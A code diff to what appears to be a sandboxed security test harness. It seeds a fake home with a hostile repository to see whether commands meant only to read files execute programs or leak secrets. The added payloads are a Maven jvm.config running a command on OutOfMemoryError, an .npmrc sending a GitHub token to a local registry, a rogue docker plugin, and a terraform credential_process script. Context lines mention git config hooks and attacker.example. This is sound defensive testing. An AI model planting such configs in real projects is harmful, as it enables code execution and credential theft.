@@ -8,9 +8,11 @@ How a command runs
 `--tmpfs /tmp`, a tmpfs over `/home` and, bound at `/home/user`, a writable copy of a small home
 made for this one run (`seed_home`): the project `~/project` (the working directory, a git repo)
 holds payload files whose *contents* are attacks (`f` is `a[$(touch …/PWNED)]`, a Makefile with
-`$(shell touch …)`, an `.env` with a token, `secret`), `~/project/vendor/lib` is a second git
-repo whose config runs a program from `core.fsmonitor`, `diff.external`, `core.pager`, a
-textconv driver and a clean filter, and `~/.ssh/id_rsa` is a fake key. `/etc/hosts` maps
+`$(shell touch …)`, an `.env` with a token, `secret`, configuration that names a program or a
+registry: `kube.yaml`, `.mvn/jvm.config`, `.npmrc`, `dockercfg/`, the terraform directory
+`infra/`), `~/project/vendor/lib` is a second git repo whose config runs a program from
+`core.fsmonitor`, `diff.external`, `core.pager`, a textconv driver and a clean filter, and
+`~/.ssh/id_rsa` is a fake key. `/etc/hosts` maps
 `attacker.example` to 127.0.0.1 and `/etc/resolv.conf` names 127.0.0.1, so name lookups are
 sent (and visible) instead of failing before the first byte; a listener inside the sandbox
 accepts TCP on 127.0.0.1 ports 80 and `ORACLE_PORT`, so an HTTP request or a `/dev/tcp` write
@@ -69,6 +71,7 @@ from __future__ import annotations
 
 import base64
 import codecs
+import json
 import os
 import re
 import shutil
@@ -242,6 +245,92 @@ users:
 """
 
 
+# Files a hostile repository can hold that make a reading command run a program or send a
+# secret (see `_seed_project_configs`).
+_TERRAFORM_MAIN = """\
+terraform {
+  backend "s3" {
+    bucket = "b"
+    key = "k"
+    region = "us-east-1"
+    profile = "x"
+    shared_config_files = ["awscfg"]
+    skip_credentials_validation = true
+    skip_requesting_account_id = true
+    skip_metadata_api_check = true
+    skip_region_validation = true
+    endpoints = { s3 = "http://127.0.0.1:8799" }
+    use_path_style = true
+  }
+}
+"""
+# What `terraform init` records for that backend (the hash is of the block above): committed
+# with the repository, it spares `terraform output` the init.
+_TERRAFORM_BACKEND = {
+    "version": 3,
+    "serial": 1,
+    "backend": {
+        "type": "s3",
+        "config": {
+            "bucket": "b",
+            "key": "k",
+            "region": "us-east-1",
+            "profile": "x",
+            "shared_config_files": ["awscfg"],
+            "endpoints": {"s3": "http://127.0.0.1:8799"},
+            "skip_credentials_validation": True,
+            "skip_metadata_api_check": True,
+            "skip_region_validation": True,
+            "skip_requesting_account_id": True,
+            "use_path_style": True,
+        },
+        "hash": 2546265775,
+    },
+}
+_DOCKER_PLUGIN = """\
+#!/bin/sh
+touch {pwned}
+[ "$1" = docker-cli-plugin-metadata ] && echo '{{"SchemaVersion":"0.1.0","Vendor":"x"}}'
+exit 0
+"""
+
+
+def _seed_project_configs(project: Path, pwned: str) -> None:
+    """Configuration files in the work tree that name a program (or a registry and the
+    credentials to send it): `.mvn/jvm.config` (java options: a command on OutOfMemoryError),
+    `.npmrc` (a registry here, with `${GITHUB_TOKEN}` as its token), a docker config directory
+    whose `cliPluginsExtraDirs` holds a `docker-compose` plugin, and a terraform working
+    directory `infra/` whose recorded S3 backend reads an AWS config with `credential_process`.
+    """
+    (project / ".mvn").mkdir()
+    (project / ".mvn" / "jvm.config").write_text(
+        f"-Xmx4m -XX:OnOutOfMemoryError=touch${{IFS}}{pwned}-mvn\n"
+    )
+    (project / ".npmrc").write_text(
+        f"registry=http://127.0.0.1:{ORACLE_PORT}/\n"
+        f"//127.0.0.1:{ORACLE_PORT}/:_authToken=${{GITHUB_TOKEN}}\n"
+    )
+    plugins = project / "dockercfg" / "plugins"
+    plugins.mkdir(parents=True)
+    (project / "dockercfg" / "config.json").write_text(
+        json.dumps({"cliPluginsExtraDirs": ["dockercfg/plugins"]})
+    )
+    (plugins / "docker-compose").write_text(_DOCKER_PLUGIN.format(pwned=f"{pwned}-docker"))
+    (plugins / "docker-compose").chmod(0o755)
+    infra = project / "infra"
+    (infra / ".terraform").mkdir(parents=True)
+    (infra / "main.tf").write_text(_TERRAFORM_MAIN)
+    (infra / ".terraform" / "terraform.tfstate").write_text(json.dumps(_TERRAFORM_BACKEND))
+    (infra / "awscfg").write_text(
+        "[profile x]\ncredential_process = ./cred.sh\nregion = us-east-1\n"
+    )
+    (infra / "cred.sh").write_text(
+        f"#!/bin/sh\ntouch {pwned}-terraform\n"
+        """echo '{"Version":1,"AccessKeyId":"a","SecretAccessKey":"b"}'\n"""
+    )
+    (infra / "cred.sh").chmod(0o755)
+
+
 def seed_home(root: Path, variant: str) -> None:
     """Build the home of one variant under `root` (its secrets differ between variants)."""
     token, key, password = SECRETS[variant]
@@ -273,6 +362,7 @@ def seed_home(root: Path, variant: str) -> None:
     }
     for name, text in files.items():
         (project / name).write_text(text)
+    _seed_project_configs(project, pwned)
     tools = project / "tools"
     tools.mkdir()
     for name in ("ls", "cat", "grep", "git"):
